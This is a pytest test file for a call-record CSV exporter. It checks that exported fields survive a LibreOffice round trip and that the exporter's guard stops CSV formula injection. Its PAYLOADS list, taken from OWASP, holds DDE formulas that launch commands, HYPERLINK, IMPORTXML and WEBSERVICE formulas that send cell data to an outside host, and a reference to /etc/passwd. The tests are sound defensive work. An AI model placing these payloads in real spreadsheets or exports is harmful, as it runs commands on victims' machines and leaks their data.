"""A real spreadsheet program reads back what was exported: nothing spoilt, nothing run."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from tests.harness import DAY, Call, Program, Serve, in_order, some_calls

SOFFICE = shutil.which("soffice")
needs_office = pytest.mark.skipif(SOFFICE is None, reason="no LibreOffice here")
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# Comma, quotes, UTF-8, and all else as a double click has it.
AS_OPENED = "--infilter=CSV:44,34,76,1,,0,false,true"
AS_SHOWN = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false"

TEXTS = {
    "callId": "16904424989012345678",
    "orderId": "000123",
    "caller": "+85235757580",
    "callee": "0085235757580",
    "agentNickName": "陈美玲 客户要求下午回电",
    "agentName": 'Ann "the voice" O\'Neil, 2nd',
    "other": "=1+1",
    "intent": "@SUM(A1:A9)",
    "taskId": "12E5",
    "dtmfKeys": "1,2",
    "hangupReason": '-2+3 "quoted", with\r\nanother line',
    "callStatus": "+1 (202) 555-0100",
    "recordUrl": "https://example.com/é?a=1&b=2",
}
GUARDED = {"other", "intent", "hangupReason"}

# Source: OWASP, CSV Injection, and what it links to; the last ones begin with none of the marks it names.
PAYLOADS = [
    "=1+1",
    '=1+1",=1+1',
    "=cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("https://example.com?leak="&A1&A2,"Error: please click")',
    '=IMPORTXML(CONCAT("https://example.com/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    "='file:///etc/passwd'#$passwd.A1",
    '=WEBSERVICE("https://example.com/"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "-cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '";=1+1',
    '","=1+1","',
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",  # full width
    "\uff0b1+1",
    "%0A=1+1",
]  # fmt: skip


def opened(here: Path, name: str) -> Path:
    """Opens a CSV file as a spreadsheet program does, and gives it back as a workbook."""
    convert(here, "xlsx", AS_OPENED, name)
    return here / Path(name).with_suffix(".xlsx")


def convert(here: Path, *options: str) -> None:
    profile = f"-env:UserInstallation=file://{here}/profile"
    command = [str(SOFFICE), profile, "--headless", "--convert-to", *options]
    subprocess.run(command, cwd=here, check=True, capture_output=True, timeout=120)


def formulas_in(workbook: Path) -> list[str]:
    with zipfile.ZipFile(workbook) as parts:
        sheet = ET.fromstring(parts.read("xl/worksheets/sheet1.xml"))
    return [formula.text or "" for formula in sheet.iter(f"{SHEET}f")]


def shown(here: Path, workbook: Path) -> list[dict[str, str]]:
    """Each cell's text as the program shows it."""
    convert(here, AS_SHOWN, "--outdir", "back", workbook.name)
    with (here / "back" / workbook.with_suffix(".csv").name).open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def hostile_calls() -> list[Call]:
    calls = in_order(some_calls(len(PAYLOADS)))
    return [{**call, "other": payload} for call, payload in zip(calls, PAYLOADS, strict=True)]


@needs_office
def test_ids_zeros_plus_signs_quotes_and_chinese_survive_a_spreadsheet(
    serve: Serve, nxcdr: Program, here: Path
) -> None:
    serve([{**some_calls(1)[0], **TEXTS, "totalCustomerPrice": -0.035, "callDuration": 5}])
    assert nxcdr("export", DAY, "-o", "x.csv", "--excel").code == 0
    assert (here / "x.csv").read_bytes().startswith(b"\xef\xbb\xbfagentName,")
    workbook = opened(here, "x.csv")
    (found,) = shown(here, workbook)
    for name, text in TEXTS.items():
        wanted = "'" + text if name in GUARDED else text
        assert found[name].replace("\r\n", "\n") == wanted.replace("\r\n", "\n"), name
    assert (found["totalCustomerPrice"], found["callDuration"]) == ("-0.035", "5")
    # What is kept as text is a constant, not something to be worked out.
    formulas = formulas_in(workbook)
    assert len(formulas) == len({"callId", "orderId", "caller", "callee", "taskId", "dtmfKeys", "callStatus"})
    assert all(re.fullmatch(r'"[^"]*"', formula) for formula in formulas)


@needs_office
@pytest.mark.parametrize("options", [(), ("--excel",)], ids=["plain", "excel"])
def test_no_payload_becomes_a_formula(serve: Serve, nxcdr: Program, here: Path, options: tuple[str, ...]) -> None:
    serve(hostile_calls())
    assert nxcdr("export", DAY, "-o", "x.csv", "--columns", "other,callDuration", *options).code == 0
    workbook = opened(here, "x.csv")
    assert formulas_in(workbook) == []
    if not options:  # it is the guard that keeps them from it
        assert nxcdr("export", DAY, "-o", "raw.csv", "--columns", "other", "--raw").code == 0
        assert len(formulas_in(opened(here, "raw.csv"))) == sum(text.startswith("=") for text in PAYLOADS)
    rows = shown(here, workbook)
    assert [row["callDuration"] for row in rows] == [str(call["callDuration"]) for call in hostile_calls()]
    for row, payload in zip(rows, PAYLOADS, strict=True):
        assert re.sub(r"\s", "", row["other"]).removeprefix("'") == re.sub(r"\s", "", payload)


def test_only_what_begins_with_one_of_the_marks_is_guarded_and_raw_is_raw(
    serve: Serve, nxcdr: Program, here: Path
) -> None:
    serve(hostile_calls())
    for name, options in (("guarded.csv", ()), ("raw.csv", ("--raw",))):
        assert nxcdr("export", DAY, "-o", name, "--columns", "other", *options).code == 0
    with (here / "guarded.csv").open(encoding="utf-8", newline="") as file:
        guarded = [row["other"] for row in csv.DictReader(file)]
    with (here / "raw.csv").open(encoding="utf-8", newline="") as file:
        raw = [row["other"] for row in csv.DictReader(file)]
    assert raw == PAYLOADS
    assert guarded == ["'" + text if text[0] in "=@+-\t\r\uff1d\uff20\uff0b\uff0d" else text for text in PAYLOADS]


def test_numbers_are_never_changed(serve: Serve, nxcdr: Program, here: Path) -> None:
    calls = in_order(some_calls(6))
    values = [-5, -0.035, 10**30, -(10**20), 0, 85235757580]
    serve([{**call, "callDuration": value, "caller": str(value)} for call, value in zip(calls, values, strict=True)])
    assert nxcdr("export", DAY, "-o", "x.csv", "--columns", "callDuration,caller").code == 0
    lines = (here / "x.csv").read_text().splitlines()[1:]
    texts = ["-5", "-0.035", str(10**30), str(-(10**20)), "0", "85235757580"]
    assert lines == [f"{text},{text}" for text in texts]
